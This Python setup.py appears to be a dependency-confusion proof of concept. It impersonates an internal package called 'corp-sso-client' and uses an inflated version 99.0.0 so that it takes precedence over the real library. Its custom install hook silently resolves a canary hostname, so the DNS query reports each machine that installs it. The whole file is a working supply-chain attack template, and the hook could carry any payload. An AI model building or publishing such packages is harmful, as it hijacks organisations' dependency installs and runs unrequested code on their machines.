"""Build script for an internal-sounding client library."""
import socket
from setuptools import setup
from setuptools.command.install import install

# The name resolves through the author's DNS server: the query itself says "installed here".
CANARY = "corp-sso-client.seen.example.invalid"


class RecordInstall(install):
    def run(self):
        try:
            socket.gethostbyname(CANARY)
        except OSError:
            pass
        install.run(self)


setup(
    name="corp-sso-client",
    version="99.0.0",
    py_modules=[],
    cmdclass={"install": RecordInstall},
)
